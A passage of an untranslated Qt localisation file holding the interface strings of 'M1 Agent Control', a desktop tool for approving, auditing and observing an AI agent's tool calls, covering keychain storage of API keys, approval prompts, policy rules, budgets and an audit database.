        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Re&amp;move the stored key</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>API key:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Set by ANTHROPIC_BASE_URL in the environment; never taken from a workspace.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Base URL:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Models:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Agent profiles:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pricing overrides:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The stored key was removed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Storing the key in the keychain…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The key was not stored.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The key is stored in the keychain (it is never shown again).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Without a keychain, set ANTHROPIC_API_KEY in the environment before starting the application.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The keychain refused access. Unlock it and press the button again.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Keychain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask before &amp;reads</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask before &amp;writes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask before running &amp;commands</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approvals:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>An undecided proposal expires after:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approval token lifetime:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Model turns per run at most:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool calls per run at most:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Runtime per run at most:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>none</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Daily budget:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Monthly budget:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rules in %1. Each list holds Tool or Tool(pattern) entries, for example &quot;run_command(git status*)&quot; or &quot;write_file(src/**)&quot;. Deny wins over ask, ask over allow.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy rules as JSON</source>
        <translation type="unfinished"></translation>
    </message>
    <message numerus="yes">
        <source>Valid: %n rule(s).</source>
        <translation type="unfinished">
            <numerusform></numerusform>
            <numerusform></numerusform>
        </translation>
    </message>
    <message>
        <source>Not valid: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>An SQLite file, or postgresql://user@host/db for a shared server. Put the PostgreSQL password in ~/.pgpass or PGPASSWORD, not here.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Test connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>In use: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit database:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A new database location applies after a restart.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connecting…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connection failed: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connected to %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connected, but the check failed: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Serve metrics for Prometheus on localhost</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Metrics endpoint:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Port:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Log level:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Log file:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The database URL holds a password. Put it in ~/.pgpass or PGPASSWORD instead: settings are not a place for secrets.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::TerminalApprovalGate</name>
    <message>
        <source>
=== Approval needed: %1 (scope %2), step %3, call %4
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Command (argv, one element per line, no shell):
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>  in folder: %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(old_string does not occur in the current file: the edit would fail)
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>File: %1%2
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (new file)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Arguments: %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approved (same call approved earlier for this run): %1
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved earlier for this run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>
(withdrawn: the run no longer waits for this decision)
</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approve? [y] once  [a] this exact call for the rest of the run  [n] deny  [f] deny with feedback: </source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the terminal closed before a decision</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>denied by the person at the terminal</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved once at the terminal</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>approved at the terminal for the rest of the run</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Feedback for the model (one line): </source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Please answer y, a, n or f: </source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::TimelineDelegate</name>
    <message>
        <source>cost unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Step %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 in · %2 out · %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> (edited)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 ms</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: ask — %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: allow — %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: deny — %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: checking…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Decided by you</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Decided by the policy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Covered by a pre-authorised token</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Approved automatically</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waiting for your decision</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::TimelineModel</name>
    <message>
        <source>Step %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (%2): %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(retrying: the text of the failed attempt was discarded)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Step %1
Tokens: %2 in, %3 out
Cost: %4</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tool: %1 (%2)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Call id: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Status: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Policy: %1 — %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Decided by: %1%2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The arguments were edited before approval.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Duration: %1 ms</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Arguments:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Output:</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>m1::TimelineView</name>
    <message>
        <source>Run timeline</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Details of the selected step</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Select a row to see everything about it: the full arguments, the output, the policy&apos;s reason and who decided.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>main</name>
    <message>
        <source>M1 Agent Control: approve, audit and observe what an AI agent does.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Render each main view with demo data to DIR/*.png and exit.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Audit database: an SQLite file or a postgresql:// URL (default: the one in the settings, else audit.sqlite).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cannot start</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error code: %1. Check the settings file, the database location (--db) and the folders&apos; permissions, then start again.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
</TS>
